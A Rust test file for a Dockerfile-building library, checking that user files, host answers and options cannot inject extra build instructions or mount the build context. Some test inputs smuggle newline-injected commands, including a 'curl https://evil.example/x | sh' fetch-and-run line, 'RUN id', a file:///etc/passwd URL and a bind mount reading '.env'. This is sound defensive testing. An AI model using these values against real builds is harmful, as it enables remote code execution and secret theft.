//! Nothing a user's Dockerfile, a host's answer or an option holds can change what the rendered
//! Dockerfile means (issue #13, holes 5, 6 and 14b):
//! - a `fromDockerfile` whose last line continues (or that breaks lines with a lone carriage
//!   return) is refused with its position, so no appended step can join its last instruction;
//!   the cases are `tests/buildkit/dockerfile_tails.json`, which `parse_back.py --self-test`
//!   checks with BuildKit's own parser;
//! - `inspectImage` answers, `managedPython` options and `lookupDerived` answers are validated
//!   in the core before they reach a Dockerfile or a plan;
//! - `withDockerfile` fragments cannot read the (absent) build context through `RUN --mount`.

#[path = "support/memory_host.rs"]
mod memory_host;

use apothic_image::formats::dockerfile;
use apothic_image::resolve::{
    resolve, ImageInspection, LayersUnread, ManagedPython, PlanMode, PythonPlan, Resolution,
    ResolveOptions,
};
use apothic_image::{
    DockerfileOptions, Error, ErrorCode, Image, RegistryOptions, Result as CoreResult,
};
use memory_host::{block_on, MemoryHost};
use serde_json::Value;

const TAILS: &str = include_str!("buildkit/dockerfile_tails.json");

fn from_dockerfile_with_env(text: &str) -> CoreResult<Resolution> {
    let host = MemoryHost::with(&[("Dockerfile", text)]);
    let image = Image::from_dockerfile("Dockerfile", &DockerfileOptions::default())
        .unwrap()
        .env(&[("API_TOKEN", "s3cret")])
        .unwrap();
    block_on(resolve(&image, &host, &ResolveOptions::default()))
}

#[test]
fn from_dockerfile_tails_are_refused_or_kept_apart() {
    let doc: Value = serde_json::from_str(TAILS).unwrap();
    let cases = doc["cases"].as_array().unwrap();
    assert!(cases.len() >= 18, "expected the tail variants");
    let (mut refused, mut accepted) = (0, 0);
    for case in cases {
        let name = case["name"].as_str().unwrap();
        let text = case["dockerfile"].as_str().unwrap();
        let result = from_dockerfile_with_env(text);
        if let Some(want) = case.get("refused") {
            refused += 1;
            let e = result.expect_err(name);
            let at = e.position.unwrap_or_else(|| panic!("{name}: no position"));
            assert_eq!(
                (e.code, at.line as u64, at.column as u64),
                (
                    ErrorCode::DockerfileSyntax,
                    want["line"].as_u64().unwrap(),
                    want["column"].as_u64().unwrap()
                ),
                "{name}: {}",
                e.message
            );
            assert_eq!(e.file.as_deref(), Some("Dockerfile"), "{name}");
            let word = match want["why"].as_str().unwrap() {
                "continuation" => "line continuation",
                "carriage-return" => "carriage return",
                _ => "escape",
            };
            assert!(e.message.contains(word), "{name}: {}", e.message);
        } else {
            accepted += 1;
            let r = result.unwrap_or_else(|e| panic!("{name}: {e}"));
            assert_eq!(r.dockerfile, case["rendered"].as_str().unwrap(), "{name}");
            // Our parser reads the appended ENV as an instruction of its own.
            let parsed = dockerfile::parse(&r.dockerfile).unwrap();
            let last = parsed.instructions.last().unwrap();
            assert_eq!(last.logical_line, "ENV API_TOKEN=s3cret", "{name}");
        }
    }
    assert!(
        refused >= 10 && accepted >= 8,
        "{refused} refused, {accepted} accepted"
    );
}

#[test]
fn open_continuation_is_reported_by_the_parser() {
    let df = dockerfile::parse("FROM a\nRUN b \\\n# c\n\n").unwrap();
    let at = df.open_continuation.expect("open continuation");
    assert_eq!((at.line, at.column), (2, 7));
    assert!(dockerfile::parse("FROM a\nRUN b \\\n c\n")
        .unwrap()
        .open_continuation
        .is_none());
}

#[test]
fn fragment_tails_stay_one_instruction() {
    // A fragment is written back one instruction per line, so a continuation into its end is
    // harmless; the next step is an instruction of its own.
    for tail in [
        "\\",
        "\\\n",
        "\\  \n",
        "\\\t\n",
        "\\\r\n",
        "\\\n# c\n",
        "\\\n\n\n",
        "\\\\\n",
    ] {
        let fragment = format!("RUN sh -c 'echo \"$*\" > /leak' -- {tail}");
        let image = Image::from_registry("debian:bookworm", &RegistryOptions::default())
            .unwrap()
            .with_dockerfile(&fragment)
            .unwrap()
            .env(&[("API_TOKEN", "s3cret")])
            .unwrap();
        let rendered = image.dockerfile().unwrap();
        let parsed = dockerfile::parse(&rendered).unwrap();
        let keywords: Vec<&str> = parsed
            .instructions
            .iter()
            .map(|i| i.keyword.as_str())
            .collect();
        assert_eq!(keywords, ["FROM", "RUN", "ENV"], "{tail:?}: {rendered:?}");
    }
    let onbuild = Image::from_registry("debian:bookworm", &RegistryOptions::default())
        .unwrap()
        .with_dockerfile("ONBUILD RUN echo \\\n")
        .unwrap()
        .env(&[("A", "1")])
        .unwrap();
    assert!(onbuild.dockerfile().unwrap().ends_with("\nENV A=1\n"));
}

// ---------------------------------------------------------------------------------------------
// Hole 6: host answers and options are validated before they reach a Dockerfile or a plan.
// ---------------------------------------------------------------------------------------------

fn registry_with_step() -> Image {
    Image::from_registry("debian:bookworm", &RegistryOptions::default())
        .unwrap()
        .run_commands(&["true"])
        .unwrap()
}

fn inspected(inspection: ImageInspection, options: &ResolveOptions) -> CoreResult<Resolution> {
    let mut host = MemoryHost::default();
    host.images.insert("debian:bookworm".into(), inspection);
    block_on(resolve(&registry_with_step(), &host, options))
}

fn host_error(result: CoreResult<Resolution>, needle: &str) -> Error {
    let e = result.expect_err("expected an error");
    assert_eq!(e.code, ErrorCode::HostCallbackFailed, "{}", e.message);
    assert!(e.message.contains(needle), "{needle}: {}", e.message);
    // Control characters of the answer never reach the message raw.
    assert!(!e.message.contains('\n'), "{}", e.message);
    e
}

#[test]
fn inspect_image_answers_are_checked_field_by_field() {
    let ok = ImageInspection {
        digest: Some(format!("sha256:{}", "a".repeat(64))),
        os: Some("linux".into()),
        ..ImageInspection::default()
    };
    let defaults = ResolveOptions::default();
    let injected = "amd64\nRUN curl https://evil.example/x | sh #";
    let cases: Vec<(&str, ImageInspection)> = vec![
        (
            "inspectImage(\"debian:bookworm\") returned arch",
            ImageInspection {
                arch: Some(injected.into()),
                ..ok.clone()
            },
        ),
        (
            "returned arch \"riscv\"",
            ImageInspection {
                arch: Some("riscv".into()),
                ..ok.clone()
            },
        ),
        (
            "returned arch \"AMD64\"",
            ImageInspection {
                arch: Some("AMD64".into()),
                ..ok.clone()
            },
        ),
        (
            "returned libc \"gnu\\n",
            ImageInspection {
                libc: Some("gnu\nRUN x".into()),
                ..ok.clone()
            },
        ),
        (
            "returned libc \"uclibc\"",
            ImageInspection {
                libc: Some("uclibc".into()),
                ..ok.clone()
            },
        ),
        (
            "returned digest",
            ImageInspection {
                digest: Some("sha256:abc".into()),
                ..ok.clone()
            },
        ),
        (
            "returned digest",
            ImageInspection {
                digest: Some(format!("sha256:{}", "A".repeat(64))),
                ..ok.clone()
            },
        ),
        (
            "returned os",
            ImageInspection {
                os: Some("linux\r\n".into()),
                ..ok.clone()
            },
        ),
        (
            "returned pythonPath",
            ImageInspection {
                python_path: Some("python3".into()),
                ..ok.clone()
            },
        ),
        (
            "returned pythonPath",
            ImageInspection {
                python_path: Some("/usr/bin/python3\n".into()),
                ..ok.clone()
            },
        ),
        (
            "returned pythonVersion",
            ImageInspection {
                python_path: Some("/usr/bin/python3".into()),
                python_version: Some("3.12\nRUN x".into()),
                ..ok.clone()
            },
        ),
        (
            "returned pythonVersion",
            ImageInspection {
                python_version: Some("3".into()),
                ..ok.clone()
            },
        ),
    ];
    for (needle, inspection) in cases {
        host_error(inspected(inspection, &defaults), needle);
    }
    // A long answer is cut in the message.
    let long = host_error(
        inspected(
            ImageInspection {
                arch: Some("x".repeat(10_000)),
                ..ok.clone()
            },
            &defaults,
        ),
        "arch",
    );
    assert!(long.message.len() < 1_000, "{}", long.message.len());
    // Every allowed spelling still works, normalised in the plan and the URL.
    for (arch, libc, want_arch, want_libc) in [
        ("amd64", "glibc", "x86_64", "gnu"),
        ("x86_64", "musl", "x86_64", "musl"),
        ("arm64", "glibc", "aarch64", "gnu"),
        ("arm64/v8", "musl", "aarch64", "musl"),
        ("aarch64", "glibc", "aarch64", "gnu"),
    ] {
        let r = inspected(
            ImageInspection {
                arch: Some(arch.into()),
                libc: Some(libc.into()),
                ..ok.clone()
            },
            &defaults,
        )
        .unwrap();
        let PythonPlan::Managed {
            arch, libc, url, ..
        } = &r.plan.python
        else {
            panic!("expected a managed Python");
        };
        assert_eq!((arch.as_str(), libc.as_str()), (want_arch, want_libc));
        assert!(
            url.contains(&format!("-{want_arch}-unknown-linux-{want_libc}-")),
            "{url}"
        );
        assert_eq!(
            dockerfile::parse(&r.dockerfile).unwrap().instructions.len(),
            4
        );
    }
    let r = inspected(
        ImageInspection {
            python_path: Some("/usr/local/bin/python3".into()),
            python_version: Some("3.12.7".into()),
            ..ok
        },
        &defaults,
    )
    .unwrap();
    assert!(matches!(r.plan.python, PythonPlan::Image { .. }));
}

#[test]
fn inspect_image_config_and_unread_layers_are_checked() {
    let ok = ImageInspection {
        digest: Some(format!("sha256:{}", "a".repeat(64))),
        os: Some("linux".into()),
        env: Some(vec!["PATH=/usr/bin".into(), "EMPTY=".into()]),
        workdir: Some("/srv/app".into()),
        user: Some("1000:1000".into()),
        entrypoint: Some(vec!["/bin/sh".into(), "-c".into()]),
        cmd: Some(vec!["echo \"$HOME\"".into()]),
        ..ImageInspection::default()
    };
    let defaults = ResolveOptions::default();
    inspected(ok.clone(), &defaults).expect("a well-formed config is accepted");
    let unread = |reason: &str, digest: String, media_type: &str| {
        Some(LayersUnread {
            reason: reason.into(),
            digest,
            media_type: media_type.into(),
        })
    };
    let digest = format!("sha256:{}", "b".repeat(64));
    let zstd = "application/vnd.oci.image.layer.v1.tar+zstd";
    let cases: Vec<(&str, ImageInspection)> = vec![
        (
            "env[0]",
            ImageInspection {
                env: Some(vec!["NOEQUALS".into()]),
                ..ok.clone()
            },
        ),
        (
            "env[1]",
            ImageInspection {
                env: Some(vec!["A=1".into(), "=x".into()]),
                ..ok.clone()
            },
        ),
        (
            "env[0]",
            ImageInspection {
                env: Some(vec!["A=1\0".into()]),
                ..ok.clone()
            },
        ),
        (
            "env with 1025 items",
            ImageInspection {
                env: Some(vec!["A=1".into(); 1025]),
                ..ok.clone()
            },
        ),
        (
            "cmd holding 262145 characters",
            ImageInspection {
                cmd: Some(vec!["x".repeat(262_145)]),
                ..ok.clone()
            },
        ),
        (
            "entrypoint[1]",
            ImageInspection {
                entrypoint: Some(vec!["sh".into(), "a\0b".into()]),
                ..ok.clone()
            },
        ),
        (
            "workdir",
            ImageInspection {
                workdir: Some("srv".into()),
                ..ok.clone()
            },
        ),
        (
            "workdir",
            ImageInspection {
                workdir: Some("/srv\nRUN x".into()),
                ..ok.clone()
            },
        ),
        (
            "user",
            ImageInspection {
                user: Some("root admin".into()),
                ..ok.clone()
            },
        ),
        (
            "user",
            ImageInspection {
                user: Some(String::new()),
                ..ok.clone()
            },
        ),
        (
            "layersUnread.reason",
            ImageInspection {
                layers_unread: unread("zstd", digest.clone(), zstd),
                ..ok.clone()
            },
        ),
        (
            "layersUnread.digest",
            ImageInspection {
                layers_unread: unread("budget", "sha256:abc".into(), zstd),
                ..ok.clone()
            },
        ),
        (
            "layersUnread.mediaType",
            ImageInspection {
                layers_unread: unread("mediaType", digest.clone(), "text/plain; x=1"),
                ..ok.clone()
            },
        ),
    ];
    for (needle, inspection) in cases {
        host_error(inspected(inspection, &defaults), needle);
    }

    // A managed CPython planned on an inspection that left a layer unread says so; an image whose
    // Python was found, or a complete inspection, gives no such diagnostic.
    let codes = |r: &Resolution| {
        r.diagnostics
            .iter()
            .map(|d| d.code.clone())
            .collect::<Vec<_>>()
    };
    let partial = ImageInspection {
        layers_unread: unread("compression", digest.clone(), zstd),
        ..ok.clone()
    };
    let r = inspected(partial.clone(), &defaults).unwrap();
    assert!(matches!(r.plan.python, PythonPlan::Managed { .. }));
    assert_eq!(codes(&r), ["IMAGE_NOT_FULLY_INSPECTED"]);
    let message = &r.diagnostics[0].message;
    assert!(
        message.contains(&digest)
            && message.contains(zstd)
            && message.contains("\"debian:bookworm\""),
        "{message}"
    );
    assert_eq!(r.diagnostics[0].step, None);
    let with_python = ImageInspection {
        python_path: Some("/usr/bin/python3".into()),
        python_version: Some("3.11.2".into()),
        ..partial
    };
    assert!(codes(&inspected(with_python, &defaults).unwrap()).is_empty());
    assert!(codes(&inspected(ok, &defaults).unwrap()).is_empty());
}

/// The layers an inspection can leave unread, each with the words its diagnostic uses.
const UNREAD_REASONS: [(&str, &str, &str); 3] = [
    (
        "compression",
        "application/vnd.oci.image.layer.v1.tar+zstd",
        "is compressed in a way the host cannot read",
    ),
    (
        "mediaType",
        "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip",
        "has a media type the host does not know",
    ),
    (
        "budget",
        "application/vnd.oci.image.layer.v1.tar+gzip",
        "was past the host's byte budget for layers",
    ),
];

/// An inspection (digest, os, arch, `libc`) that left a layer unread for `reason`.
fn unread_inspection(reason: &str, media_type: &str, libc: Option<&str>) -> ImageInspection {
    ImageInspection {
        digest: Some(format!("sha256:{}", "a".repeat(64))),
        os: Some("linux".into()),
        arch: Some("amd64".into()),
        libc: libc.map(Into::into),
        layers_unread: Some(LayersUnread {
            reason: reason.into(),
            digest: format!("sha256:{}", "b".repeat(64)),
            media_type: media_type.into(),
        }),
        ..ImageInspection::default()
    }
}

#[test]
fn managed_python_on_an_unread_layer_names_each_reason() {
    for (reason, media_type, why) in UNREAD_REASONS {
        let r = inspected(
            unread_inspection(reason, media_type, None),
            &ResolveOptions::default(),
        )
        .unwrap();
        assert!(matches!(r.plan.python, PythonPlan::Managed { .. }));
        let [d] = &r.diagnostics[..] else {
            panic!("{reason}: {:?}", r.diagnostics)
        };
        assert_eq!(d.code, "IMAGE_NOT_FULLY_INSPECTED");
        let expected = format!(
            "the layer sha256:{} ({media_type}) of \"debian:bookworm\" {why}, so no Python (or \
             libc) was looked for in it or below; the managed CPython is planned. If the image \
             has Python 3.9 or newer, use fromRegistry(ref, {{ prebuilt: true }}) (a budget: \
             raise registryHost's maxLayerBytes)",
            "b".repeat(64)
        );
        assert_eq!(d.message, expected, "{reason}");
    }
}

#[test]
fn add_python_on_an_unread_layer_says_its_libc_is_a_guess() {
    // An addPython base whose libc lies in a layer the host could not read (a zstd Alpine, a
    // foreign layer, a layer past the budget) gets glibc's CPython, as when the host says nothing,
    // but the resolution says the libc is a guess and why.
    let image = Image::from_registry(
        "alpine:3.20",
        &RegistryOptions {
            add_python: Some("3.12".into()),
            ..RegistryOptions::default()
        },
    )
    .unwrap();
    let resolved = |inspection: ImageInspection| {
        let mut host = MemoryHost::default();
        host.images.insert("alpine:3.20".into(), inspection);
        block_on(resolve(&image, &host, &ResolveOptions::default())).unwrap()
    };
    for (reason, media_type, why) in UNREAD_REASONS {
        let r = resolved(unread_inspection(reason, media_type, None));
        assert!(
            matches!(&r.plan.python, PythonPlan::Image { path: Some(p), .. } if p == "/usr/local/bin/python3"),
            "{:?}",
            r.plan.python
        );
        assert!(r
            .dockerfile
            .contains("-x86_64-unknown-linux-gnu-install_only.tar.gz"));
        let [d] = &r.diagnostics[..] else {
            panic!("{reason}: {:?}", r.diagnostics)
        };
        assert_eq!(d.code, "IMAGE_NOT_FULLY_INSPECTED");
        assert_eq!(d.step, None);
        let expected = format!(
            "the layer sha256:{} ({media_type}) of \"alpine:3.20\" {why}, so no libc was looked \
             for in it or below; addPython's CPython is planned for glibc. If the image uses musl \
             (Alpine), answer inspectImage with libc: \"musl\" (a budget: raise registryHost's \
             maxLayerBytes)",
            "b".repeat(64)
        );
        assert_eq!(d.message, expected, "{reason}");
    }
    // A libc the host did see is no guess, whatever was left unread below it; nor is a complete
    // inspection's.
    let musl = resolved(unread_inspection(
        "compression",
        UNREAD_REASONS[0].1,
        Some("musl"),
    ));
    assert!(musl.diagnostics.is_empty(), "{:?}", musl.diagnostics);
    assert!(musl
        .dockerfile
        .contains("-x86_64-unknown-linux-musl-install_only.tar.gz"));
    let complete = resolved(ImageInspection {
        layers_unread: None,
        ..unread_inspection("budget", UNREAD_REASONS[2].1, None)
    });
    assert!(
        complete.diagnostics.is_empty(),
        "{:?}",
        complete.diagnostics
    );
}

#[test]
fn managed_python_options_are_checked() {
    let bad = [
        (
            "version",
            ManagedPython {
                version: "3.12.11\nRUN curl x | sh #".into(),
                ..ManagedPython::default()
            },
        ),
        (
            "version",
            ManagedPython {
                version: "latest".into(),
                ..ManagedPython::default()
            },
        ),
        (
            "release",
            ManagedPython {
                release: "20250723 /x\nRUN id".into(),
                ..ManagedPython::default()
            },
        ),
        (
            "release",
            ManagedPython {
                release: String::new(),
                ..ManagedPython::default()
            },
        ),
        (
            "urlTemplate",
            ManagedPython {
                url_template: "https://e.example/{version}.tgz /tmp/x\nRUN id #".into(),
                ..ManagedPython::default()
            },
        ),
        (
            "urlTemplate",
            ManagedPython {
                url_template: "file:///etc/passwd".into(),
                ..ManagedPython::default()
            },
        ),
        (
            "urlTemplate",
            ManagedPython {
                url_template: "https://e.example/a\"b".into(),
                ..ManagedPython::default()
            },
        ),
        (
            "urlTemplate",
            ManagedPython {
                url_template: "--chown=0 https://e.example/a".into(),
                ..ManagedPython::default()
            },
        ),
    ];
    for (field, managed) in bad {
        let options = ResolveOptions {
            managed_python: managed,
            ..ResolveOptions::default()
        };
        let e = inspected(ImageInspection::default(), &options).expect_err(field);
        assert_eq!(e.code, ErrorCode::InvalidArgument, "{}", e.message);
        assert_eq!(
            e.argument.as_deref(),
            Some(format!("options.managedPython.{field}").as_str())
        );
        // Checked even when the base has its own Python (an option is wrong or not).
        let with_python = ImageInspection {
            python_path: Some("/usr/bin/python3".into()),
            ..ImageInspection::default()
        };
        assert_eq!(
            inspected(with_python, &options).unwrap_err().code,
            ErrorCode::InvalidArgument
        );
    }
    let custom = ResolveOptions {
        managed_python: ManagedPython {
            version: "3.13".into(),
            release: "2025-07_23.a".into(),
            url_template: "https://mirror.example/{release}/cpython-{version}-{arch}-{libc}.tar.gz"
                .into(),
            ..ManagedPython::default()
        },
        ..ResolveOptions::default()
    };
    let r = inspected(ImageInspection::default(), &custom).unwrap();
    assert!(r.dockerfile.contains(
        "ADD https://mirror.example/2025-07_23.a/cpython-3.13-x86_64-gnu.tar.gz /tmp/apothic-python.tar.gz\n"
    ));
}

#[test]
fn lookup_derived_answers_must_be_image_references() {
    for answer in [
        "registry.example/app:1\nRUN id",
        "",
        "Registry.example/App",
        " registry.example/app",
        "registry.example/app@sha256:abc",
    ] {
        let mut host = MemoryHost::default();
        let image = registry_with_step();
        let key = block_on(resolve(&image, &host, &ResolveOptions::default()))
            .unwrap()
            .build_key;
        host.derived.insert(key.clone(), answer.into());
        let e = host_error(
            block_on(resolve(&image, &host, &ResolveOptions::default())),
            "lookupDerived",
        );
        assert!(
            e.message.contains("not an image reference") && e.message.contains(&key),
            "{}",
            e.message
        );
    }
    let mut host = MemoryHost::default();
    let image = registry_with_step();
    let key = block_on(resolve(&image, &host, &ResolveOptions::default()))
        .unwrap()
        .build_key;
    host.derived
        .insert(key, "registry.example/derived:abc123".into());
    let r = block_on(resolve(&image, &host, &ResolveOptions::default())).unwrap();
    assert_eq!(r.plan.mode, PlanMode::Derived);
    assert_eq!(
        r.plan.image.as_deref(),
        Some("registry.example/derived:abc123")
    );
}

// ---------------------------------------------------------------------------------------------
// Hole 14b: a fragment cannot read the build context through `RUN --mount`.
// ---------------------------------------------------------------------------------------------

#[test]
fn fragment_run_mounts_of_the_build_context_are_forbidden() {
    let base = Image::from_registry("debian:bookworm", &RegistryOptions::default()).unwrap();
    for (fragment, line, column) in [
        (
            "RUN --mount=type=bind,source=.,target=/src cat /src/.env",
            1,
            1,
        ),
        ("RUN --mount=target=/src ls /src", 1, 1),
        ("RUN --mount=TYPE=Bind,target=/x ls", 1, 1),
        ("RUN --mount=\"type=bind,target=/x\" ls", 1, 1),
        ("RUN --mount=type=bind,from=,target=/x ls", 1, 1),
        (
            "ENV A=1\nRUN --mount=type=cache,target=/a \\\n  --mount=type=bind,target=/b ls",
            2,
            1,
        ),
        ("RUN --mount=type=weird,target=/x ls", 1, 1),
        ("ONBUILD RUN --mount=type=bind,target=/x ls", 1, 9),
    ] {
        let e = base.with_dockerfile(fragment).expect_err(fragment);
        let at = e.position.expect("position");
        assert_eq!(
            (e.code, at.line, at.column),
            (ErrorCode::ForbiddenInstruction, line, column),
            "{fragment}: {}",
            e.message
        );
        assert_eq!(e.argument.as_deref(), Some("contents"), "{fragment}");
        assert!(e.message.contains("--mount"), "{}", e.message);
    }
    for fragment in [
        "RUN --mount=type=cache,target=/root/.cache/pip pip install x",
        "RUN --mount=type=cache,from=build,source=/c,target=/c ls",
        "RUN --mount=type=tmpfs,target=/tmp ls",
        "RUN --mount=type=secret,id=token cat /run/secrets/token",
        "RUN --mount=type=ssh git clone git@example.com:a/b.git",
        "RUN --mount=type=bind,from=build,source=/out,target=/out ls /out",
        "RUN --mount=type=bind,\"from=ghcr.io/astral-sh/uv:0.5.0\",target=/uv ls",
        "ONBUILD RUN --mount=type=cache,target=/x ls",
        "RUN --network=none echo --mount=type=bind,target=/x",
    ] {
        let image = base
            .with_dockerfile(fragment)
            .unwrap_or_else(|e| panic!("{fragment}: {e}"));
        assert!(image.dockerfile().unwrap().contains(fragment), "{fragment}");
    }
}
